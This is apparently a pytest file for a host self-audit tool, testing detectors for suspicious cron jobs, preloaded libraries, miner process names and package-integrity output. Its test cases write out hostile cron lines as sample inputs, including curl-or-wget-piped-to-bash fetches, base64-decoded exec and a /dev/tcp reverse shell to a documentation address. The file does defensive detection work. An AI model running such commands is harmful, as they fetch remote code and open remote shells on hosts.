"""Jobs, preloaded libraries, changed programs, and numbers."""

from __future__ import annotations

import pytest

from selfaudit.protocols.host.integrity import read_integrity
from selfaudit.protocols.host.jobs import looks_like_miner, read_preloads, suspicious
from selfaudit.protocols.host.load import number, read_load
from tests.checks.host import report

CRON_D = "/etc/cron.d/x"


@pytest.mark.parametrize(
    ("line", "path", "name"),
    [
        ("*/5 * * * * curl -fsSL http://203.0.113.7/x | bash", "", "fetch-and-run"),
        ("* * * * * root wget -q -O - http://x.test/a.sh | sh >/dev/null 2>&1", CRON_D, "fetch-and-run"),
        ('* * * * * bash -c "$(curl -s https://x.test/i)"', "", "fetch-and-run"),
        ("* * * * * . <(curl -s https://x.test)", "", "fetch-and-run"),
        ("* * * * * wget http://x.test/m -O /var/tmp/m && chmod +x /var/tmp/m && /var/tmp/m", "", "fetch-and-run"),
        ("* * * * * curl http://x.test/a -o /srv/.a; sh /srv/.a", "", "fetch-and-run"),
        ("* * * * * curl http://x.test/a > /opt/a; /opt/a", "", "fetch-and-run"),
        ("@reboot /tmp/.x/kdev", "", "from-tmp"),
        ("* * * * * www-data /dev/shm/a", CRON_D, "from-tmp"),
        ("* * * * * cd /tmp && ./a", "", "from-tmp"),
        ("ExecStart=-/var/tmp/svc --quiet", "x.service", "from-tmp"),
        ("* * * * * echo aGk= | base64 -d | bash", "", "disguised"),
        ("*/9 * * * * python3 -c \"import base64;exec(base64.b64decode('eA=='))\"", "", "disguised"),
        ("* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.3/443 0>&1'", "", "remote-shell"),
        ("0 * * * * wget -q http://203.0.113.9/a", "", "from-bare-address"),
        ("*/5 * * * * wget -q -O /dev/null https://shop.test/wp-cron.php", "", ""),
        ("*/15 * * * * curl -s https://shop.test/cron.php > /dev/null 2>&1", "", ""),
        ("0 4 * * * curl -s http://127.0.0.1/cron.php", "", ""),
        ("0 3 * * * find /tmp -mtime +7 -delete", "", ""),
        ('14 0 * * * "/srv/.acme.sh"/acme.sh --cron --home "/srv/.acme.sh" > /dev/null', "", ""),
        ("17 * * * * root cd / && run-parts --report /etc/cron.hourly", CRON_D, ""),
        ("0 * * * * mysqldump db > /tmp/db.sql", "", ""),
        ("*/5 * * * * sh /opt/backup.sh /tmp/out", "", ""),
        ("30 2 * * * tar czf /tmp/b.tgz /etc", "", ""),
        ("0 0 * * * wget -q https://x.test/list.txt -O /etc/list.txt && systemctl reload x", "", ""),
        ("# * * * * /tmp/x", "", ""),
        ("", "", ""),
    ],
)
def test_jobs(line: str, path: str, name: str) -> None:
    assert suspicious(line, path) == name


def test_hostile_jobs_end() -> None:
    for text in ("curl " * 100, "wget -O a " * 60, "(" * 400, "* " * 400, "curl|" * 200, "sh $(" * 100):
        suspicious(text, CRON_D)


def test_preloads() -> None:
    rows = [
        ["t", "/usr/lib/libjemalloc.so.2"],
        ["t", "# none"],
        ["t", "/usr/local/lib/libz.so /lib/x.so"],
        ["t", "/tmp/libjemalloc.so"],
    ]
    read = read_preloads(rows)
    assert read.known == ("/usr/lib/libjemalloc.so.2",)
    assert read.strange == ("/usr/local/lib/libz.so", "/lib/x.so", "/tmp/libjemalloc.so")


@pytest.mark.parametrize(("program", "yes"), [("xmrig", True), ("/tmp/.x/xmrig-6.21.0", True), ("kdevtmpfsi", True), ("kinsing", True), ("kdevtmpfs", False), ("mysqld", False), ("solrdata", False), ("", False), ("kswapd0", False)])  # fmt: skip
def test_miners(program: str, yes: bool) -> None:
    assert looks_like_miner(program) is yes


@pytest.mark.parametrize(
    ("line", "programs", "others"),
    [
        ("??5??????   /usr/bin/ls", ("/usr/bin/ls",), ()),
        ("??5?????? c /etc/default/x", (), ()),
        ("missing     /usr/bin/w", (), ("/usr/bin/w",)),
        ("missing   c /etc/x", (), ()),
        ("S.5....T.    /usr/lib64/libc.so.6", ("/usr/lib64/libc.so.6",), ()),
        (".......T.    /usr/bin/ls", (), ()),
        (".M.......    /usr/bin/sudo", (), ("/usr/bin/sudo",)),
        ("S.5....T.    /var/lib/x", (), ()),
        ("U usr/bin/ssh", ("/usr/bin/ssh",), ()),
        ("A etc/new", (), ()),
        ("X sbin/ip", (), ("/sbin/ip",)),
        ("warning: bash: /usr/bin/bash (Modification time mismatch)", (), ()),
        ("warning: bash: /usr/bin/bash (SHA256 checksum mismatch)", ("/usr/bin/bash",), ()),
        ("backup file: bash: /etc/bash.bashrc (Size mismatch)", (), ()),
        ("curl-8.1: checksum mismatch for /usr/local/bin/curl", ("/usr/local/bin/curl",), ()),
        ("curl-8.1: missing file /usr/local/bin/curl", (), ("/usr/local/bin/curl",)),
        ("debsums: changed file /bin/ps (from procps package)", ("/bin/ps",), ()),
    ],
)  # fmt: skip
def test_integrity(line: str, programs: tuple[str, ...], others: tuple[str, ...]) -> None:
    read = read_integrity(["checked=bash procps", line])
    assert (read.checked, read.programs, read.others, read.unread) == (("bash", "procps"), programs, others, 0)


def test_lines_that_nobody_understands_are_counted() -> None:
    assert read_integrity(["checked=a", "error: rpmdb", "e /etc/shadow"]).unread == 2


@pytest.mark.parametrize(
    ("line", "unread"),
    [
        ("..?......    /usr/bin/sudo", 1),
        ("..?......  c /etc/sudoers", 0),
        ("..?......    /usr/share/doc/sudo/README", 0),
        ("........?    /usr/bin/ping", 0),
        ("....?....    /usr/bin/sh", 1),
        ("S.?....T.    /usr/bin/sudo", 0),
        ("??5??????   /usr/bin/sudo", 0),
        ("?M.??????   /usr/bin/sudo", 0),
        ("?????????   /usr/bin/sudo", 1),
        ("missing     /usr/bin/sudo (Permission denied)", 1),
        ("missing     /usr/bin/sudo", 0),
        ("missing   c /etc/sudoers (Permission denied)", 0),
        ("e usr/bin/doas", 1),
        ("warning: sudo: /usr/bin/sudo (Permission denied)", 1),
        ("warning: sudo: /usr/bin/sudo (Permissions mismatch)", 0),
        ("warning: sudo: /usr/bin/sudo (No such file or directory)", 0),
        ("backup file: sudo: /etc/sudoers (Permission denied)", 0),
        ("pkg: open(/usr/local/bin/sudo): Permission denied", 1),
    ],
)
def test_files_that_could_not_be_compared_are_counted(line: str, unread: int) -> None:
    assert read_integrity(["checked=sudo", line]).unread == unread


@pytest.mark.parametrize(("text", "value"), [("1.5", 1.5), ("1,5", 1.5), ("90%", 90.0), ("-1", None), ("nan", None), ("1e9", None), ("", None), ("9" * 40, None)])  # fmt: skip
def test_numbers(text: str, value: float | None) -> None:
    assert number(text) == value


def test_load() -> None:
    load = read_load(
        report(
            {
                "resources": "cpus=2\nload5=1\ndisk=/srv,a,100,95,0,0\ndisk=/,100,95,10,9\ntop=1,2,u,prog,with,commas\ndisk=bad\ntop=x"
            }
        )
    )
    assert load is not None
    assert [(d.mount, d.percent, d.inode_percent) for d in load.disks] == [("/srv,a", 95, 0), ("/", 95, 90)]
    assert load.top[0].program == "prog,with,commas"
    assert read_load(report({})) is None
